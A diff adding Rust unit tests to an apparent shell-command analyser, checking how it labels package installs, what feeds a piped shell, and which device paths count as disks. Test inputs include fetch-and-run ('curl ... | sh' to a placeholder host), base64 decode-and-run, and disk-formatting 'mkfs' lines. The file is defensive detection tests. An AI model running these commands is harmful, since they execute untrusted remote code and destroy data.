@@ -1,3 +1,6 @@
+mod mutation;
+mod rewrite;
+
 use super::*;
 use ringfence_event::{Change, EventKey, FileClass, HostClass, Source, Timestamp};
 
@@ -102,4 +105,53 @@ fn labels_of_a_hostile_line_stay_bounded() {
     let found = shell(&format!("cat {}", many.join(" ")));
     assert!(found.files.len() <= MOST, "{}", found.files.len());
     assert!(!found.unclear.is_empty());
+}
+
+#[test]
+fn what_a_line_installs_is_labelled() {
+    let found = shell("sudo npm i -g left-pad@1.3.0 && pip install flask");
+    let packages: Vec<(&str, &str, Option<&str>, &str)> = found
+        .packages
+        .iter()
+        .map(|one| {
+            let version = one.version.as_deref();
+            (
+                one.ecosystem.as_str(),
+                one.name.as_str(),
+                version,
+                one.by.as_str(),
+            )
+        })
+        .collect();
+    assert_eq!(
+        packages,
+        [
+            ("npm", "left-pad", Some("1.3.0"), "npm"),
+            ("pypi", "flask", None, "pip")
+        ]
+    );
+}
+
+#[test]
+fn a_shell_is_fed_only_by_what_could_not_be_read() {
+    let fed = |line: &str| {
+        let found = shell(line);
+        let mut shells = found.commands.into_iter();
+        let last = shells.rfind(|command| command.program == "sh");
+        last.unwrap().fed_by
+    };
+    assert!(fed("echo bHM= | base64 -d | sh").is_empty());
+    assert_eq!(fed("base64 -d x | sh"), ["base64"]);
+    assert_eq!(
+        fed("echo \"$(curl -s https://x.example)\" | sh"),
+        ["echo", "curl"]
+    );
+}
+
+#[test]
+fn names_of_disks_have_no_capital_letters() {
+    let classes = |line: &str| shell(line).files[0].class;
+    assert_eq!(classes("mkfs.ext4 /dev/sdb1"), FileClass::Disk);
+    assert_eq!(classes("mkfs.ext4 /dev/sdXY"), FileClass::System);
+    assert_eq!(classes("mkfs.ext4 /dev/mapper/Data"), FileClass::Disk);
 }
